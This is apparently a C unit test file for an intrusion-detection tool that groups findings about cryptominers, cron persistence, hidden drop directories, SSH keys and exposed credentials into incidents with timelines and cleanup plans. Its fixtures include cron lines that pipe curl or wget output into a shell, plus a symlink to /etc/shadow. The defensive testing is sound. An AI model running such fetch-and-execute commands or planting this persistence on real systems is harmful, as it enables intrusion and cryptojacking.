/*
 * test_incident.c - findings into incidents (src/incident/): process trees
 * (with a cycle after pid reuse), a shared hidden directory, a cron job
 * naming the miner's path, an unrelated finding staying alone, shared
 * system directories never tying, time links, timestomped and future
 * times, login records, and 5,000+ findings bounded and fast.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>

#include "testlib.h"
#include "../../src/core/credpath.h"
#include "../../src/incident/incident.h"
#include "../../src/output/output.h"

#define BOOT 1764000000          /* 2025-11-24T15:20:00Z */

static struct finding *
add(struct findings *fs, const char *rule, enum severity sev,
    const char *path, const char *msg)
{
	struct finding *f = findings_add(fs, detector_find(rule), "%s", msg);

	assert_non_null(f);
	f->severity = sev;
	if (path)
		finding_set_file(f, path);
	fs->unsettled = false;       /* no per-rule cap in these tests */
	return f;
}

static void
set_mtime(struct finding *f, int64_t t)
{
	finding_ev_file_meta(f, "file_", 0, 0644, t);
}

static struct finding *
add_proc(struct findings *fs, const struct snapshot *s, const char *rule,
	 enum severity sev, pid_t pid)
{
	struct finding *f = add(fs, rule, sev, NULL, "process");

	finding_set_process(f, snapshot_proc(s, pid), s);
	return f;
}

static const struct incident *
inc_with(const struct incidents *in, const struct finding *f)
{
	const char *id = incident_of(f);

	for (size_t i = 0; id && i < in->n; i++)
		if (strcmp(in->v[i].id, id) == 0)
			return &in->v[i];
	return NULL;
}

static bool
has_member(const struct incident *inc, const struct finding *f)
{
	for (size_t i = 0; inc && i < inc->nf; i++)
		if (inc->f[i] == f)
			return true;
	return false;
}

static bool
tl_has(const struct incident *inc, const char *source, const char *text)
{
	for (size_t i = 0; i < inc->ntl; i++)
		if (strcmp(inc->tl[i].source, source) == 0 &&
		    strstr(inc->tl[i].event, text))
			return true;
	return false;
}

/* pid, ppid, comm, exe, start ticks (100 Hz) */
static void
mkproc(struct snapshot *s, struct proc *p, pid_t pid, pid_t ppid,
       const char *comm, const char *exe, uint64_t start, uint32_t uid)
{
	tl_proc_set(s, p, pid, ppid, comm, exe, EXE_FILE);
	p->start_ticks = start;
	p->euid = p->ruid = uid;
}

/* The must-be-shown story in small: cron -> sh -> miner from /tmp/.x,
 * the cron file naming it, a proxy beside it, an authorized_keys change
 * 5 minutes later, a readable credential file; an old sudo rule alone. */
static void
test_story(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 6);
	struct findings fs;
	struct incidents in;
	struct finding *miner, *cron, *proxy, *key, *sudo, *lone, *child;
	const struct incident *i1;
	struct cred_file cf = { 0 };
	int64_t drop = BOOT + 200;

	(void)state;
	s->host.boot_time = BOOT;
	s->host.clk_tck = 100;
	mkproc(s, &p[0], 1, 0, "systemd", "/usr/lib/systemd/systemd", 1, 0);
	mkproc(s, &p[1], 500, 1, "cron", "/usr/sbin/cron", 1000, 0);
	mkproc(s, &p[2], 600, 500, "sh", "/usr/bin/dash", 30000, 0);
	mkproc(s, &p[3], 700, 600, "kworker", "/tmp/.x/kworker", 30100, 0);
	/* pid reuse: 800's "parent" 900 started after it, and 900's parent
	 * is 800: a cycle the walks must end */
	mkproc(s, &p[4], 800, 900, "xmr", "/dev/shm/.y/xmr", 500, 1000);
	mkproc(s, &p[5], 900, 800, "helper", "/usr/bin/perl", 4000, 1000);
	cf.path = "/root/.aws/credentials";
	cf.kind = CRED_AWS;
	cf.has_secret = true;
	cf.fingerprint = "AKIA...WXYZ";
	cf.reach = CRED_REACH_WORLD;
	s->cred_files = &cf;
	s->ncred_files = 1;
	findings_init(&fs);

	miner = add_proc(&fs, s, "RM-MIN-001", SEV_HIGH, 700);
	cron = add(&fs, "RM-PER-001", SEV_MEDIUM, "/etc/cron.d/kworker",
	    "cron runs a program from /tmp");
	finding_ev_int(cron, "line", 1);
	finding_ev_str(cron, "command", "/tmp/.x/kworker -c /tmp/.x/c.json "
	    ">/dev/null 2>&1");
	set_mtime(cron, drop + 30);
	proxy = add(&fs, "RM-RES-002", SEV_HIGH, "/tmp/.x/gs-netcat",
	    "gsocket");
	set_mtime(proxy, drop);
	key = add(&fs, "RM-PER-003", SEV_LOW, "/root/.ssh/authorized_keys",
	    "SSH key");
	finding_ev_int(key, "line", 2);
	finding_ev_str(key, "fingerprint", "SHA256:abc");
	set_mtime(key, drop + 300);
	sudo = add(&fs, "RM-ACCT-003", SEV_HIGH, "/etc/sudoers.d/old",
	    "sudo rule");
	set_mtime(sudo, drop - 90 * 86400);
	lone = add_proc(&fs, s, "RM-MIN-001", SEV_HIGH, 800);
	child = add_proc(&fs, s, "RM-PROC-002", SEV_MEDIUM, 900);
	findings_sort(&fs);

	incidents_build(&in, s, &fs, &(struct incident_opts){ .now = drop +
	    3600, .no_stat = true });
	findings_sort(&fs);
	incidents_order(&in);
	assert_int_equal(in.n, 2);
	i1 = inc_with(&in, miner);
	assert_non_null(i1);
	assert_true(i1->miner);
	assert_true(has_member(i1, cron));
	assert_true(has_member(i1, proxy));
	assert_true(has_member(i1, key));      /* by time */
	assert_false(has_member(i1, sudo));
	assert_null(incident_of(sudo));        /* unrelated: alone */
	/* the confirmed miner raises the rest to high, and says so */
	assert_int_equal(cron->severity, SEV_HIGH);
	assert_int_equal(key->severity, SEV_HIGH);
	assert_string_equal(finding_ev_get(key, "raised_by_incident")->s,
	    i1->id);
	assert_non_null(finding_ev_get(key, "incident_time_link_s"));
	/* miner + access resale: critical */
	assert_int_equal(i1->severity, SEV_CRITICAL);
	/* the cycle ended; 900 descends from 800 (started before it) */
	assert_ptr_equal(inc_with(&in, child), inc_with(&in, lone));
	assert_ptr_not_equal(inc_with(&in, lone), i1);
	/* timeline: the miner's start from ticks, the files' mtimes */
	assert_true(tl_has(i1, "start", "process 700 (kworker) started"));
	assert_true(tl_has(i1, "mtime", "/tmp/.x/gs-netcat"));
	assert_true(tl_has(i1, "mtime", "first dropped file"));
	assert_true(tl_has(i1, "mtime", "/root/.ssh/authorized_keys"));
	for (size_t k = 1; k < i1->ntl; k++)
		assert_true(i1->tl[k - 1].time <= i1->tl[k].time);
	/* plan: the miner first, then cron, the dropped dir, the key,
	 * the credentials */
	assert_true(i1->nplan >= 5);
	assert_int_equal(i1->plan[0].what, PLAN_STOP);
	assert_string_equal(i1->plan[0].target, "700");
	tl_assert_contains(i1->plan[0].text, "kill -STOP 700");
	assert_int_equal(i1->plan[1].what, PLAN_DISABLE);
	assert_string_equal(i1->plan[1].target, "/etc/cron.d/kworker:1");
	{
		bool dir = false, rot = false, k2 = false;

		for (size_t k = 0; k < i1->nplan; k++) {
			dir |= strcmp(i1->plan[k].target, "/tmp/.x") == 0;
			rot |= i1->plan[k].what == PLAN_ROTATE && strstr(
			    i1->plan[k].text, "AKIA...WXYZ") != NULL;
			k2 |= strstr(i1->plan[k].text, "SHA256:abc") != NULL;
		}
		assert_true(dir && rot && k2);
	}
	tl_assert_contains(i1->summary, "Miner process 700");
	{
		bool cronstory = false;

		for (size_t k = 0; k < i1->nstory; k++)
			cronstory |= strstr(i1->story[k], "started by a cron "
			    "job") != NULL;
		assert_true(cronstory);
	}
	/* the json carries it, valid, with the ids after the sort */
	{
		struct report r = { .s = s, .fs = &fs, .inc = &in };
		struct buf b;

		buf_init(&b, 1 << 24);
		out_json(&b, &r);
		tl_assert_json(b.data, b.len);
		tl_assert_contains(b.data, "\"incidents\":[{\"id\":\"I-001\"");
		tl_assert_contains(b.data, "\"source\":\"start\"");
		tl_assert_contains(b.data, "\"plan\":[{\"step\":1,\"do\":"
		    "\"stop\",\"target\":\"700\"}");
		buf_free(&b);
	}
	incidents_free(&in);
	findings_free(&fs);
	tl_snap_free(s);
}

/* Files directly in /tmp, /etc/cron.d or /usr/bin share nothing. */
static void
test_shared_dirs(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct findings fs;
	struct incidents in;

	(void)state;
	findings_init(&fs);
	add(&fs, "RM-RES-002", SEV_HIGH, "/tmp/a", "a");
	add(&fs, "RM-RES-002", SEV_HIGH, "/tmp/b", "b");
	add(&fs, "RM-PER-001", SEV_HIGH, "/etc/cron.d/x", "x");
	add(&fs, "RM-PER-001", SEV_HIGH, "/etc/cron.d/y", "y");
	add(&fs, "RM-EVA-005", SEV_HIGH, "/usr/bin/chattr", "c");
	add(&fs, "RM-EVA-005", SEV_HIGH, "/usr/bin/curl", "d");
	/* a job running /bin/sh names a system path: no tie by itself */
	add(&fs, "RM-PER-001", SEV_HIGH, "/var/spool/cron/crontabs/a",
	    "/bin/sh -c 'curl x | sh' >/dev/null");
	add(&fs, "RM-PER-001", SEV_HIGH, "/var/spool/cron/crontabs/b",
	    "/bin/sh -c 'wget y | sh' >/dev/null");
	findings_sort(&fs);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .no_stat =
	    true });
	assert_int_equal(in.n, 0);
	incidents_free(&in);
	/* a hidden directory under /usr is someone's: it ties */
	add(&fs, "RM-ROOT-001", SEV_CRITICAL, "/usr/lib/.x/a.so", "a");
	add(&fs, "RM-EVA-001", SEV_LOW, "/usr/lib/.x/b", "b");
	/* what the allow-list lowered ties to nothing */
	finding_ev_str(add(&fs, "RM-EVA-001", SEV_INFO, "/usr/lib/.x/c", "c"),
	    "allowed_by", "allow.conf:3");
	findings_sort(&fs);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .no_stat =
	    true });
	assert_int_equal(in.n, 1);
	assert_int_equal(in.v[0].nf, 2);
	assert_int_equal(in.v[0].severity, SEV_CRITICAL);
	assert_string_equal(in.v[0].stage, "rootkit");
	assert_int_equal(in.v[0].plan[in.v[0].nplan - 1].what, PLAN_REBUILD);
	incidents_free(&in);
	assert_true(incident_shared_dir("/tmp"));
	assert_true(incident_shared_dir("/etc/cron.d"));
	assert_true(incident_shared_dir("/home/alice/.ssh"));
	assert_false(incident_shared_dir("/tmp/.x"));
	assert_false(incident_shared_dir("/dev/shm/.x"));
	assert_false(incident_shared_dir("/home/alice/.config/htop"));
	findings_free(&fs);
	tl_snap_free(s);
}

/* Times that contradict each other are said to, both kept. */
static void
test_times_disagree(void **state)
{
	struct snapshot *s = tl_snap_new();
	char *dir = tl_tmpdir();
	struct findings fs;
	struct incidents in;
	struct timespec ts[2] = { { 1600000000, 0 }, { 1600000000, 0 } };
	struct finding *a, *b;
	int64_t now = (int64_t)time(NULL);
	int fd;

	(void)state;
	tl_writes(dir, "var/tmp/.x/old", "x");
	fd = tl_opendir(dir);
	assert_int_equal(utimensat(fd, "var/tmp/.x/old", ts, 0), 0);
	s->rootfd = fd;
	s->live = false;
	findings_init(&fs);
	a = add(&fs, "RM-RES-002", SEV_HIGH, "/var/tmp/.x/old", "old");
	set_mtime(a, 1600000000);
	b = add(&fs, "RM-RES-002", SEV_HIGH, "/var/tmp/.x/future", "future");
	set_mtime(b, now + 10 * 86400);
	findings_sort(&fs);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .now = now });
	assert_int_equal(in.n, 1);
	assert_true(in.v[0].times_disagree);
	assert_true(tl_has(&in.v[0], "mtime", "more than a day before the "
	    "ctime"));
	assert_true(tl_has(&in.v[0], "ctime", "/var/tmp/.x/old"));
	assert_true(tl_has(&in.v[0], "mtime", "after the scan's clock"));
	incidents_free(&in);
	findings_free(&fs);
	tl_snap_free(s);       /* closes fd */
	tl_rmrf(dir);
	free(dir);
}

/* Login records near the incident, or with the key it added, join the
 * timeline with their source. */
static void
test_logins(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct findings fs;
	struct incidents in;
	struct finding *a, *k;
	const struct login_event_view l[] = {
		{ BOOT + 100, "login", "root", "203.0.113.9", "publickey",
		  "SHA256:abc", "auth.log" },
		{ BOOT - 30 * 86400, "login", "admin", "198.51.100.1",
		  "password", NULL, "wtmp" },
		{ BOOT + 9 * 86400, "login", "root", "203.0.113.9",
		  "publickey", "SHA256:abc", "wtmp" },
	};

	(void)state;
	findings_init(&fs);
	a = add(&fs, "RM-RES-002", SEV_HIGH, "/var/tmp/.x/p", "p");
	set_mtime(a, BOOT);
	k = add(&fs, "RM-PER-003", SEV_HIGH, "/var/tmp/.x/keys", "k");
	finding_ev_str(k, "fingerprint", "SHA256:abc");
	set_mtime(k, BOOT + 10);
	findings_sort(&fs);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .now = BOOT +
	    10 * 86400, .logins = l, .nlogins = 3, .no_stat = true });
	assert_int_equal(in.n, 1);
	assert_true(tl_has(&in.v[0], "auth.log", "root from 203.0.113.9"));
	assert_false(tl_has(&in.v[0], "wtmp", "admin"));
	assert_true(tl_has(&in.v[0], "wtmp", "the key this incident added"));
	incidents_free(&in);
	findings_free(&fs);
	tl_snap_free(s);
}

/* 6,000 findings: bounded incidents, members, actions, and fast. */
static void
test_many(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct findings fs;
	struct incidents in;
	struct timespec t0, t1;
	char path[64];
	double ms;
	size_t total = 0;

	(void)state;
	findings_init(&fs);
	for (int i = 0; i < 4000; i++) {          /* 100 dirs of 40 */
		snprintf(path, sizeof(path), "/var/tmp/.d%d/f%d", i % 100, i);
		add(&fs, "RM-RES-002", SEV_HIGH, path, "dropped");
	}
	for (int i = 0; i < 2000; i++) {          /* one dir of 2,000 */
		snprintf(path, sizeof(path), "/dev/shm/.big/f%d", i);
		add(&fs, "RM-DAT-002", i ? SEV_LOW : SEV_HIGH, path, "staged");
	}
	findings_sort(&fs);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .no_stat =
	    true });
	findings_sort(&fs);
	incidents_order(&in);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 +
	    (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
	assert_true(ms < 2000);
	assert_int_equal(in.n, RM_INCIDENTS_MAX);
	assert_int_equal(in.dropped, 101 - RM_INCIDENTS_MAX);
	/* the big one is listed first (most findings at equal severity) */
	assert_int_equal(in.v[0].nf, RM_INCIDENT_FINDINGS_MAX);
	assert_int_equal(in.v[0].nf_dropped, 2000 - RM_INCIDENT_FINDINGS_MAX);
	for (size_t i = 0; i < in.n; i++) {
		assert_true(in.v[i].nplan <= RM_PLAN_MAX);
		assert_true(in.v[i].ntl <= RM_TIMELINE_MAX);
		total += in.v[i].nf;
		for (size_t k = 1; k < in.v[i].nf; k++)
			assert_true(strcmp(in.v[i].f[k - 1]->id,
			    in.v[i].f[k]->id) < 0);
	}
	assert_true(total <= RM_INCIDENTS_MAX * RM_INCIDENT_FINDINGS_MAX);
	incidents_free(&in);
	findings_free(&fs);
	tl_snap_free(s);
}

/* A far ancestor (a session's launcher, 6 generations up) with a finding
 * of its own does not tie; a near one (the parent's parent) does; two
 * memfd programs do not tie by their "/memfd:NAME" pseudo-path. */
static void
test_far_ancestor(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 9);
	struct findings fs;
	struct incidents in;
	struct finding *launcher, *miner, *dropper, *other;

	(void)state;
	mkproc(s, &p[0], 100, 1, "memfd:x", "/memfd:x (deleted)", 10, 0);
	p[0].exe_kind = EXE_MEMFD;
	mkproc(s, &p[1], 101, 100, "bash", "/usr/bin/bash", 20, 0);
	mkproc(s, &p[2], 102, 101, "bash", "/usr/bin/bash", 30, 0);
	mkproc(s, &p[3], 103, 102, "make", "/usr/bin/make", 40, 0);
	mkproc(s, &p[4], 104, 103, "sh", "/usr/bin/dash", 50, 0);
	mkproc(s, &p[5], 105, 104, "curl", "/usr/bin/perl", 60, 0);
	mkproc(s, &p[6], 106, 105, "sh", "/usr/bin/dash", 70, 0);
	mkproc(s, &p[7], 107, 106, "xmrig", "/opt/x/xmrig", 80, 0);
	mkproc(s, &p[8], 108, 1, "memfd:x", "/memfd:x (deleted)", 90, 0);
	p[8].exe_kind = EXE_MEMFD;
	findings_init(&fs);
	launcher = add_proc(&fs, s, "RM-PROC-001", SEV_MEDIUM, 100);
	finding_set_file(launcher, "/memfd:x");
	other = add_proc(&fs, s, "RM-PROC-001", SEV_HIGH, 108);
	finding_set_file(other, "/memfd:x");
	dropper = add_proc(&fs, s, "RM-PROC-002", SEV_MEDIUM, 105);
	miner = add_proc(&fs, s, "RM-MIN-001", SEV_HIGH, 107);
	findings_sort(&fs);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .no_stat =
	    true });
	assert_int_equal(in.n, 1);
	assert_true(has_member(&in.v[0], miner));
	assert_true(has_member(&in.v[0], dropper));
	assert_null(incident_of(launcher));
	assert_null(incident_of(other));
	/* the story still shows the chain */
	tl_assert_contains(in.v[0].story[1], "xmrig (107) <- sh (106) <- "
	    "curl (105)");
	incidents_free(&in);
	findings_free(&fs);
	tl_snap_free(s);
}

/* Two children of one shell with no finding of its own (a test script, a
 * login session): a miner and a packaged monero node, or a miner and the
 * pool it talks to on loopback, are not tied through the shell or
 * through 127.0.0.1. */
static void
test_siblings_not_tied(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 4);
	struct findings fs;
	struct incidents in;
	struct finding *miner, *node, *pool;

	(void)state;
	mkproc(s, &p[0], 200, 1, "bash", "/usr/bin/bash", 10, 0);
	mkproc(s, &p[1], 201, 200, "kswapd1", "/dev/shm/x/kswapd1", 20, 0);
	mkproc(s, &p[2], 202, 200, "monerod", "/usr/bin/monerod", 30, 0);
	mkproc(s, &p[3], 203, 200, "testpool", "/tmp/b/testpool", 40, 0);
	findings_init(&fs);
	miner = add_proc(&fs, s, "RM-MIN-001", SEV_HIGH, 201);
	miner->dest_ip = xstrdup("127.0.0.1");
	miner->dest_port = 3333;
	node = add_proc(&fs, s, "RM-MIN-004", SEV_INFO, 202);
	/* both name files under one scratch directory (/tmp/ci: not a
	 * shared one) on their command lines: the info finding still ties
	 * to nothing */
	free(node->process.command_line);
	node->process.command_line = xstrdup("/usr/bin/monerod --data-dir "
	    "/tmp/ci/t/d1 --log-file /tmp/ci/t/d1/monerod.log");
	free(miner->process.command_line);
	miner->process.command_line = xstrdup("kswapd1 --data-dir "
	    "/tmp/ci/t/d2 --log-file /tmp/ci/t/d2/monerod.log");
	pool = add_proc(&fs, s, "RM-PROC-002", SEV_HIGH, 203);
	pool->dest_ip = xstrdup("127.0.0.1");
	pool->dest_port = 40000;
	findings_sort(&fs);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .no_stat =
	    true });
	assert_int_equal(in.n, 1);
	assert_true(has_member(&in.v[0], miner));
	assert_null(incident_of(node));
	assert_int_equal(node->severity, SEV_INFO);
	assert_null(incident_of(pool));
	incidents_free(&in);
	findings_free(&fs);
	tl_snap_free(s);
}

/* The first dropped file is the dropped directory's oldest, even when no
 * finding names it (a.sh); the miner's executable there is an event; a
 * timestomped file (mtime years before its ctime) and a symbolic link are
 * not taken for the first; the label is given once. */
static void
test_first_drop(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 1);
	char *dir = tl_tmpdir();
	struct findings fs;
	struct incidents in;
	struct finding *gs, *miner;
	const struct incident *i1;
	int64_t now = (int64_t)time(NULL), t0 = now - 7200;
	struct timespec ts[2] = { { 0, 0 }, { 0, 0 } };
	size_t nlab = 0;
	int fd;

	(void)state;
	tl_writes(dir, "var/tmp/.x/a.sh", "#!/bin/sh\n");
	tl_writes(dir, "var/tmp/.x/kworker", "ELF");
	tl_writes(dir, "var/tmp/.x/gs", "ELF");
	tl_writes(dir, "var/tmp/.x/stomped", "x");
	fd = tl_opendir(dir);
	assert_int_equal(symlinkat("/etc/shadow", fd, "var/tmp/.x/link"), 0);
	ts[0].tv_sec = ts[1].tv_sec = t0;
	assert_int_equal(utimensat(fd, "var/tmp/.x/a.sh", ts, 0), 0);
	ts[0].tv_sec = ts[1].tv_sec = t0 + 60;
	assert_int_equal(utimensat(fd, "var/tmp/.x/kworker", ts, 0), 0);
	ts[0].tv_sec = ts[1].tv_sec = t0 + 120;
	assert_int_equal(utimensat(fd, "var/tmp/.x/gs", ts, 0), 0);
	ts[0].tv_sec = ts[1].tv_sec = 1500000000;
	assert_int_equal(utimensat(fd, "var/tmp/.x/stomped", ts, 0), 0);
	ts[0].tv_sec = ts[1].tv_sec = 1400000000;
	assert_int_equal(utimensat(fd, "var/tmp/.x/link", ts,
	    AT_SYMLINK_NOFOLLOW), 0);
	s->rootfd = fd;
	s->live = false;
	s->host.boot_time = now - 86400;
	s->host.clk_tck = 100;
	mkproc(s, &p[0], 700, 1, "kworker", "/var/tmp/.x/kworker",
	    (uint64_t)(86400 - 3600) * 100, 0);
	findings_init(&fs);
	gs = add(&fs, "RM-RES-002", SEV_HIGH, "/var/tmp/.x/gs", "gsocket");
	miner = add_proc(&fs, s, "RM-MIN-001", SEV_HIGH, 700);
	findings_sort(&fs);
	incidents_build(&in, s, &fs, &(struct incident_opts){ .now = now });
	assert_int_equal(in.n, 1);
	i1 = inc_with(&in, miner);
	assert_non_null(i1);
	assert_true(has_member(i1, gs));
	assert_true(tl_has(i1, "mtime", "/var/tmp/.x/a.sh: the oldest file "
	    "in the dropped directory /var/tmp/.x (first dropped file)"));
	assert_true(tl_has(i1, "mtime", "/var/tmp/.x/kworker: executable of "
	    "process 700 written"));
	assert_true(tl_has(i1, "mtime", "/var/tmp/.x/gs: "));
	assert_false(tl_has(i1, "mtime", "/var/tmp/.x/stomped"));
	assert_false(tl_has(i1, "mtime", "/var/tmp/.x/link"));
	assert_false(i1->times_disagree);
	for (size_t k = 0; k < i1->ntl; k++)
		nlab += strstr(i1->tl[k].event, "first dropped file") != NULL;
	assert_int_equal(nlab, 1);
	assert_int_equal(i1->tl[0].time, t0);
	incidents_free(&in);

	findings_free(&fs);
	tl_snap_free(s);       /* closes fd */
	tl_rmrf(dir);
	free(dir);
}

static void
test_parse_time(void **state)
{
	int64_t t;

	(void)state;
	assert_true(incident_parse_time("1970-01-01T00:00:00Z", &t));
	assert_int_equal(t, 0);
	assert_true(incident_parse_time("2026-11-28T05:14:02.000Z", &t));
	assert_int_equal(t, 1795842842);
	assert_false(incident_parse_time("2026-11-28 05:14:02", &t));
	assert_false(incident_parse_time("2026-13-28T05:14:02Z", &t));
	assert_false(incident_parse_time("2026-11-28T05:14:02+01:00", &t));
	assert_false(incident_parse_time(NULL, &t));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_story),
		cmocka_unit_test(test_shared_dirs),
		cmocka_unit_test(test_times_disagree),
		cmocka_unit_test(test_logins),
		cmocka_unit_test(test_many),
		cmocka_unit_test(test_far_ancestor),
		cmocka_unit_test(test_siblings_not_tied),
		cmocka_unit_test(test_first_drop),
		cmocka_unit_test(test_parse_time),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
